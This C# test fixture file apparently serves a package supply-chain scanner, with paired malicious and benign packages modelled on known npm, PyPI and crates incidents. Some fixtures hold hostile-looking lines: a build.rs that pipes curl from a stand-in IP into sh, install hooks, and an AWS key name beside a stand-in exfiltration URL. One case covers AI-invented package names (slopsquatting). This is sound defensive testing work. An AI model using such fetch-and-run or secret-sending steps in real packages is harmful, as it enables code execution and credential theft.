using System.Text.Json.Nodes;
using Sluice.Tests.Support;
using static Sluice.Tests.Incidents.IncidentFixtures;

namespace Sluice.Tests.Incidents;

/// <summary>Incidents that the history of publishing gives away: what is in the artifact looks ordinary, or is for other rules.</summary>
internal static class RegistryCases
{
    private static readonly string[] Owner = ["owner"];
    private static readonly string[] OwnerAndNew = ["owner", "newcomer"];

    public static DateTimeOffset Now { get; } = new(2026, 3, 31, 12, 0, 0, TimeSpan.Zero);

    public static IReadOnlyList<IncidentCase> All { get; } =
    [
        // Three lines within the hour, with a script that no release before had; the twin has had its script for years.
        new("ua-parser-js-2021", ["provenance/release-burst"],
            "agent-lib-0.7.29.tgz", seed => Package("agent-lib", "0.7.29", Scripts("preinstall", "start /B node preinstall.js & node preinstall.js"), ("preinstall.js", $"console.log(process.platform, 'https://dl{seed}.example.invalid/x');\n"), ("preinstall.sh", "echo would fetch from 203.0.113.7\n")),
            "agent-lib-0.7.29.tgz", seed => Package("agent-lib", "0.7.29", Scripts("install", "node-gyp rebuild"), ("binding.gyp", "{ 'targets': [] }\n"), ("native.cc", $"// {seed}\n")))
        {
            Registry = (() => Hijacked(script: false), () => Hijacked(script: true)),
        },

        // Years of sleep, versions skipped, files of an old version exchanged; the twin wakes up with the next version and leaves the old ones alone.
        new("ctx-pypi-2022", ["provenance/dormant-revival"],
            "ctxfake-0.2.6.tar.gz", seed => Sdist("ctxfake", "0.2.6", $"names = ['AWS_ACCESS_KEY_ID']\nurl = 'https://x{seed}.herokuapp.example'\n"),
            "ctxfake-0.2.0.tar.gz", seed => Sdist("ctxfake", "0.2.0", $"def ctx():\n    return {seed}\n"))
        {
            Ecosystem = "pypi",
            Registry = (
                () => Index("ctxfake", ("0.1.0", "2014-12-01"), ("0.1.2", "2014-12-19"), ("0.1.2", "2026-03-24"), ("0.2.2", "2026-03-24"), ("0.2.6", "2026-03-31")),
                () => Index("ctxfake", ("0.1.0", "2014-12-01"), ("0.1.2", "2014-12-19"), ("0.2.0", "2026-03-31"))),
        },

        // The releases before came from a pipeline with provenance; this one from a token, with a script. The twin keeps its provenance, and its telemetry runs where people run it.
        new("nx-s1ngularity-2025", ["provenance/publisher-change"],
            "build-tool-21.5.0.tgz", seed => Package("build-tool", "21.5.0", Scripts("postinstall", "node telemetry.js"), ("telemetry.js", $"const PROMPT = 'find text config files {seed}';\n")),
            "build-tool-21.5.0.tgz", seed => Package("build-tool", "21.5.0", "", ("telemetry.js", $"exports.send = () => {seed};\n")))
        {
            Registry = (
                () => new TestRegistry().Npm(Attested("build-tool", 20).Version("21.5.0", "2026-03-31", "owner", Owner, script: true)),
                () => new TestRegistry().Npm(Attested("build-tool", 20).Version("21.5.0", "2026-03-31", trusted: true, attested: true))),
        },

        // One line of the manifest, and a package that was put there hours before. The twin takes a package that is there for years.
        new("axios-plain-crypto-js-2026", ["dependency/new", "provenance/publisher-change"],
            "http-lib-1.14.1.tgz", seed => Package("http-lib", "1.14.1", Dependencies("plain-fake-js")),
            "http-lib-1.14.1.tgz", seed => Package("http-lib", "1.14.1", Dependencies("old-plugin")))
        {
            Registry = (
                () => new TestRegistry().Npm(Attested("http-lib", 1, minor: 11).Version("1.14.1", "2026-03-31", "owner", Owner, dependencies: ["plain-fake-js"]))
                    .Npm(new TestPackage("plain-fake-js").Version("4.2.0", "2026-03-30T16:00:00Z", "stranger", ["stranger"]).Version("4.2.1", "2026-03-31T09:30:00Z", "stranger", ["stranger"], script: true)),
                () => new TestRegistry().Npm(Attested("http-lib", 1, minor: 11).Version("1.14.1", "2026-03-31", trusted: true, attested: true, dependencies: ["old-plugin"]))
                    .Npm(new TestPackage("old-plugin").Version("1.0.0", "2023-01-05", "stranger", ["stranger"]).Version("1.4.0", "2026-03-30", "stranger", ["stranger"]))),
        },

        // A new maintainer, and a package of theirs that is a few weeks old. The twin adds an old and well-known one.
        new("event-stream-2018", ["dependency/new"],
            "event-lib-3.3.6.tgz", seed => Package("event-lib", "3.3.6", Dependencies("flat-fake")),
            "event-lib-3.4.0.tgz", seed => Package("event-lib", "3.4.0", Dependencies("flat-known")))
        {
            Registry = (
                () => new TestRegistry().Npm(Steady("event-lib", 3).Version("3.3.6", "2026-03-31", "newcomer", OwnerAndNew, dependencies: ["flat-fake"]))
                    .Npm(new TestPackage("flat-fake").Version("0.1.0", "2026-02-20", "newcomer", ["newcomer"]).Version("0.1.1", "2026-03-30", "newcomer", ["newcomer"])),
                () => new TestRegistry().Npm(Steady("event-lib", 3).Version("3.4.0", "2026-03-31", "owner", Owner, dependencies: ["flat-known"]))
                    .Npm(new TestPackage("flat-known").Version("1.0.0", "2019-02-20", "another", ["another"]))),
        },

        // A crate that is there for days, whose build script gets a program and plants a key. The twin is as young, and makes code of a file that it brings.
        new("crates-build-rs-dropper-2026", ["execution/build-step"],
            "fake-changelog-0.1.2.crate", seed => Crate("fake-changelog", $"    let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl http://203.0.113.{seed}/p | sh\");\n"),
            "fake-changelog-0.1.2.crate", seed => Crate("fake-changelog", $"    // as curl http://docs.example/{seed} says\n    let status = Command::new(\"protoc\").arg(\"proto/log.proto\").status();\n    println!(\"cargo:rerun-if-changed=proto\");\n"))
        {
            Ecosystem = "crates",
            Registry = (() => Crates("fake-changelog"), () => Crates("fake-changelog")),
        },

        // A name that a model made up, in a skill for agents. The twin is a package of the company's own, a day old and declared as such.
        new("slopsquat-react-codeshift-2026", ["name/slopsquat"],
            "skills.zip", seed => TestArchive.Zip(("skills/migrate/SKILL.md", Bytes($"# Migrate {seed}\n\nrun: npx react-codeshiftx --all\n"))),
            "skills.zip", seed => TestArchive.Zip(("skills/migrate/SKILL.md", Bytes($"# Migrate {seed}\n\nrun: npx acme-codemods --all\n"))))
        {
            Registry = (() => new TestRegistry(), () => new TestRegistry().Npm(new TestPackage("acme-codemods").Version("1.0.0", "2026-03-30"))),
            TwinInternalNames = ["acme-*"],
        },
    ];

    private static TestRegistry Hijacked(bool script)
    {
        var package = new TestPackage("agent-lib");
        for (var month = 1; month <= 9; month++)
            package.Version($"0.7.{19 + month}", $"2025-0{month}-10", "owner", Owner, script: script);
        foreach (var (version, time) in (IEnumerable<(string, string)>)[("0.7.29", "2026-03-31T09:05:00Z"), ("0.8.0", "2026-03-31T09:20:00Z"), ("1.0.0", "2026-03-31T09:40:00Z")])
            package.Version(version, time, "owner", Owner, script: true);
        return new TestRegistry().Npm(package);
    }

    private static TestPackage Attested(string name, int major, int minor = 0)
    {
        var package = new TestPackage(name);
        for (var month = 1; month <= 3; month++)
            package.Version($"{major}.{minor + month - 1}.0", $"2026-0{month}-10", trusted: true, attested: true, maintainers: Owner);
        return package;
    }

    private static TestPackage Steady(string name, int major)
    {
        var package = new TestPackage(name);
        for (var month = 1; month <= 6; month++)
            package.Version($"{major}.3.{month - 1}", $"2025-1{month % 3}-1{month}", "owner", Owner);
        return package;
    }

    private static TestRegistry Index(string name, params (string Version, string Day)[] files) => new TestRegistry().Answer($"/simple/{name}/", new JsonObject
    {
        ["meta"] = new JsonObject { ["api-version"] = "1.1" },
        ["name"] = name,
        ["files"] = new JsonArray([.. files.Select((file, i) => (JsonNode)new JsonObject { ["filename"] = i > 0 && files[i - 1].Version == file.Version ? $"{name}-{file.Version}.zip" : $"{name}-{file.Version}.tar.gz", ["upload-time"] = file.Day + "T10:00:00Z", ["hashes"] = new JsonObject() })]),
    }.ToJsonString());

    private static string Scripts(string name, string command) => $$""" ,"scripts":{"{{name}}":"{{command}}"}""";

    private static string Dependencies(string name) => $$""" ,"dependencies":{"{{name}}":"^1.0.0"}""";

    private static byte[] Package(string name, string version, string manifest, params (string Path, string Text)[] files) => TestArchive.Npm(
        $$"""{"name":"{{name}}","version":"{{version}}","license":"MIT","main":"index.js","files":["*.js","*.sh","*.cc","*.gyp"]{{manifest}}}""",
        [("index.js", "module.exports = agent => agent;\n"), ("LICENSE", "MIT License\n"), .. files]);

    private static TestRegistry Crates(string name) => new TestRegistry().Answer($"/api/v1/crates/{name}", new JsonObject
    {
        ["crate"] = new JsonObject { ["created_at"] = "2026-03-27T10:00:00Z" },
        ["versions"] = new JsonArray([.. ((string[])["0.1.2", "0.1.1", "0.1.0"]).Select((version, i) => (JsonNode)new JsonObject { ["num"] = version, ["created_at"] = $"2026-03-{29 - i}T10:00:00Z", ["published_by"] = new JsonObject { ["login"] = "newcomer" } })]),
    }.ToJsonString());

    private static byte[] Crate(string name, string build) => TestArchive.Tgz(
        ($"{name}-0.1.2/Cargo.toml", Bytes($"[package]\nname = \"{name}\"\nversion = \"0.1.2\"\nedition = \"2021\"\nlicense = \"MIT\"\nbuild = \"build.rs\"\n")), ($"{name}-0.1.2/LICENSE", Bytes("MIT License\n")),
        ($"{name}-0.1.2/build.rs", Bytes($"use std::process::Command;\n\nfn main() {{\n{build}}}\n")), ($"{name}-0.1.2/src/lib.rs", Bytes("pub fn log() {}\n")));

    private static byte[] Sdist(string name, string version, string code) => TestArchive.Tgz(
        ($"{name}-{version}/PKG-INFO", Bytes($"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nLicense: MIT\n")),
        ($"{name}-{version}/ctx.py", Bytes(code)));
}
